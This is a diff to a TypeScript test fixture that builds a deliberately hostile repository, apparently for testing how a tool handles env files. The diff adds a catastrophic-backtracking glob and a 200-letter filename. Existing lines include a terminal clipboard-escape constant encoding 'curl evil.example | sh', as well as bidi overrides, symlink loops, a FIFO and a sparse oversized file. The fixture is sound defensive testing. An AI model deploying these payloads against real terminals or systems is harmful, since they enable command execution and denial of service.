@@ -42,6 +42,8 @@ export const ESC_CLEAR_LINE = '\u001b[2K';
 export const OSC52_CLIPBOARD = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
 export const C1_CSI = '\u009b31m';
 export const BIDI_OVERRIDE = '\u202e';
+/** A glob a backtracking matcher fails in hours against the fixture's 200-letter name (globCost.ts). */
+export const STARRY_GLOB = `**/${'*a'.repeat(12)}*b`;
 
 /** A document as an editor would open it: the name it has in the repository and the text it shows. */
 export interface OpenedDocument {
@@ -117,6 +119,9 @@ export function buildHostileRepository(): HostileRepository {
   link('loop.runpod.env', 'loop.runpod.env');
   link('/dev/zero', 'zero.runpod.env');
   execFileSync('mkfifo', [path.join(root, 'fifo.runpod.env')]);
+  // A long name of one letter: failing it against a glob with many stars in a segment
+  // (`*a*a*a*a*b`) takes a backtracking matcher minutes to hours.
+  write(root, 'a'.repeat(200), 'A=1\n');
   // 50 MB on paper (sparse): refused by its size before a byte is read.
   write(root, 'huge.runpod.env', '');
   fs.truncateSync(path.join(root, 'huge.runpod.env'), 50 * 1024 * 1024);
